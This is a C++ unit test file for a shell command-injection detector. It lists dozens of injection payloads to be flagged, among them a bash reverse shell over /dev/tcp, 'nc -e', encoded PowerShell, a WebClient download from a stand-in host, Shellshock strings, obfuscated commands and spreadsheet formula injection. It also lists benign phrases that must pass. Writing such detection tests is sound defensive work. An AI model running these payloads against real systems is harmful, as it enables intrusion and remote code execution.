#include <gtest/gtest.h>

#include "inspect/attack/testing.h"

namespace firebreak::inspect {
namespace {

TEST(Shell, FindsChains) {
  for (const char* const text : {
           "x; ls -la",
           "x | cat /etc/hosts",
           "x && whoami",
           "x||id",
           "x;id;",
           "x\nid",
           "& ping -c 3 10.0.0.1 &",
           R"~(|dir c:\)~",
           "x;wget http://h/x",
           "; sleep 5",
           "x; uname",
           "a; c=$(id)",
           "x;openssl s_client -connect h:443",
           "x;rsync a@h:/srv .",
           "x;rsync h::m .",
           "x;git clone h:x",
           "x|xargs rm",
           "x;pip install y",
           "x;docker run y",
           "x;unzip y/z",
       }) {
    EXPECT_TRUE(Finds(Rule::kCommandChain, text)) << text << ": " << RulesOf(text);
  }
}

TEST(Shell, FindsSubstitutions) {
  for (const char* const text : {
           "$(id)",
           "$(cat /etc/x)",
           "x`id`",
           "`curl h`",
           "$((5+7))",
           "<(curl -s http://h)",
           R"~("$(whoami)")~",
       }) {
    EXPECT_TRUE(Finds(Rule::kCommandSubstitution, text)) << text << ": " << RulesOf(text);
  }
}

TEST(Shell, FindsWhatOnlyAShellReads) {
  for (const char* const text : {
           "cat${IFS}x",
           "bash -i >& /dev/tcp/10.0.0.1/80 0>&1",
           "nc -e x",
           "cmd.exe /c dir",
           "x | sh",
           "powershell -enc AAAA",
       }) {
    EXPECT_TRUE(Finds(Rule::kCommandShell, text)) << text << ": " << RulesOf(text);
  }
}

TEST(Shell, FindsProgramsByPath) {
  for (const char* const text : {
           "/bin/cat x",
           "/usr/bin/id",
           ";/sbin/ifconfig",
           "x=/usr/local/bin/python3 -c",
       }) {
    EXPECT_TRUE(Finds(Rule::kCommandPath, text)) << text << ": " << RulesOf(text);
  }
}

TEST(Shell, FindsHiddenCommands) {
  for (const char* const text : {
           "; c'a't /x",
           R"~(; w\hoami)~",
           R"~(|ca""t /x)~",
           R"(/???/??t /x)",
           "; u$@name -a",
           "& who^ami",
       }) {
    EXPECT_TRUE(Finds(Rule::kCommandHidden, text)) << text << ": " << RulesOf(text);
  }
}

TEST(Shell, FindsShellshock) {
  for (const char* const text : {
           "() { :; }; echo x",
           "() { x; }",
           "() { _; } >_[$($())] { id; }",
       }) {
    EXPECT_TRUE(Finds(Rule::kCommandFunction, text)) << text << ": " << RulesOf(text);
  }
}

TEST(Shell, FindsCommandLines) {
  for (const char* const text : {
           "cat /etc/x",
           "wget http://h/x",
           "curl -o x http://h",
           "ping -n 3 h",
           R"~(dir c:\)~",
       }) {
    EXPECT_TRUE(Finds(Rule::kCommandAlone, text)) << text << ": " << RulesOf(text);
  }
}

TEST(Shell, LeavesSentencesAlone) {
  for (const char* const text : {
           "bread & butter",
           "cats; find out more",
           "this | that",
           "black & white",
           "curl and divergence",
           "find the best",
           "cut & sew",
           "tea; more",
           "R&D",
           "A & E",
           "Smith & Sons; est. 1890",
           "less is more",
           "who am I",
           "zsh is the best!",
           "make it so",
           "the id of x",
           "AT&T",
           "sort by: date",
           "Mozilla/5.0 (X11; Linux x86_64; rv:105.0)",
           "5 & 6",
           "date & time",
           "a;b;c",
           "rock & cat",
           "$(document)",
           "hp|gen|top|women",
           "name|id",
           "name;id;date",
           "$('#id')",
           "price: $5 (net)",
           "time | date",
           "type: `id`",
           "a=1&id=5&sort=x",
           "line one\nfind me\nsort it",
           "head & shoulders",
           "Error:\n    at https://example.org/x.js:2:3",
           "first line\nlast line",
           "kill bill",
           "top 10 & more",
           "host a party",
           "dash (punctuation)",
       }) {
    EXPECT_LT(ScoreOf(text), kCritical) << text << ": " << RulesOf(text);
  }
}

TEST(Shell, FindsCommandsInWhateverDress) {
  for (const char* const text : {
           "; w$()hoami",
           "; $'id'",
           "/bin/c?t x",
           "; x=id;$x",
       }) {
    EXPECT_TRUE(Finds(Rule::kCommandHidden, text)) << text << ": " << RulesOf(text);
  }
  for (const char* const text : {
           "x|sleep 9|",
           "x\nsleep 9",
           "a.txt|id",
           "| get-childitem",
           "; then id",
       }) {
    EXPECT_TRUE(Finds(Rule::kCommandChain, text)) << text << ": " << RulesOf(text);
  }
  for (const char* const text : {
           "%x(id)",
           "%x{id}",
       }) {
    EXPECT_TRUE(Finds(Rule::kCommandSubstitution, text)) << text << ": " << RulesOf(text);
  }
  for (const char* const text : {
           "[system.net.dns]::resolve('h')",
           "=cmd|'/c x'!a1",
           "%programfiles:~10,-5%x",
       }) {
    EXPECT_TRUE(Finds(Rule::kCommandShell, text)) << text << ": " << RulesOf(text);
  }
  for (const char* const text : {
           "curl http://h/x",
           "python3 -c 'x'",
       }) {
    EXPECT_TRUE(Finds(Rule::kCommandAlone, text)) << text << ": " << RulesOf(text);
  }
  for (const char* const text : {
           "you can use `ls -la` to see all files",
       }) {
    EXPECT_TRUE(Finds(Rule::kCommandQuoted, text)) << text << ": " << RulesOf(text);
  }
}

TEST(Shell, LeavesTalkOfProgramsAlone) {
  for (const char* const text : {
           "php; mysql",
           "git & svn",
           "apache; nginx; php",
           "perl 5",
           "LS 460",
           "wget download",
           "npm run build",
           "git clone repo",
           "docker exec -it bash",
           "curl -X POST json example",
           "grep -r string",
           "ssh -i key user",
           "cd project && npm install",
           "npm i; npm start",
           "| id | name |",
           "|id|name|",
           "use `grep -r` to search the tree",
           "run `kubectl get pods` to see them all",
           "```\nnpm install\n``` is all there is to do",
           "data:image/png;base64",
           "sed & awk",
           "foo; do more",
           "list[int]::x",
           "Vec<[u8]>::new()",
       }) {
    EXPECT_LT(ScoreOf(text), kCritical) << text << ": " << RulesOf(text);
  }
}

TEST(Shell, TakesTheQueryOfAUrlForNoWildcard) {
  for (const absl::string_view text : {"https://wiki.example/xwiki/bin/view/Main/?viewer=code",
                                       "https://shop.example/bin/search?q=1"}) {
    EXPECT_FALSE(Finds(Rule::kCommandHidden, text)) << text;
  }
}

TEST(Shell, NobodyWritesMarkdownInAHeader) {
  constexpr absl::string_view kText = "aa bb cc `wget http://evil.example/x -O /tmp/x` dd";
  EXPECT_TRUE(HitsOf(kText, Place::kHeader).Has(Rule::kCommandSubstitution));
}

TEST(Shell, FindsWhatLeavesTheArgumentItIsIn) {
  for (const absl::string_view text : {
           "x' ; id ; '",
           R"~(x"; id #)~",
           "x'|id|'",
           "a)|id;",
           "127.0.0.1 | dir",
           "10.0.0.1 & date",
           ";kill -9 1",
           "|cat flag.txt",
           "$&&dir+c:/",
           "x; pip install https://h/x",
           ";start-sleep -s 5",
           ";mknod /tmp/x p",
       }) {
    EXPECT_TRUE(Finds(Rule::kCommandChain, text)) << text << ": " << RulesOf(text);
  }
  for (const absl::string_view text : {
           "powershell.exe -nop -enc AAAA",
           "(New-Object Net.WebClient).DownloadString('http://h')",
           "x|$SHELL -c id",
           "(%pipe%id) (w) file",
           "--checkpoint-action=exec=sh x.sh",
           "a,b\n=cmd|'/c x'!a1,c",
       }) {
    EXPECT_TRUE(Finds(Rule::kCommandShell, text)) << text << ": " << RulesOf(text);
  }
  for (const absl::string_view text : {
           "(see a) | ps",
           "27' monitor; more inside",
           "John's cat; id cards",
           "10.0.0.1 | date | host |",
           "cd && git clone https://h/x",
           "make; npm install -g x",
           "list\nfind example.com\nless file.txt",
           R"~("x" | id)~",
           "uptime 99.9 %",
           "a;reg day",
           "data science; free food",
       }) {
    EXPECT_LT(ScoreOf(text), kCritical) << text << ": " << RulesOf(text);
  }
}

}  // namespace
}  // namespace firebreak::inspect
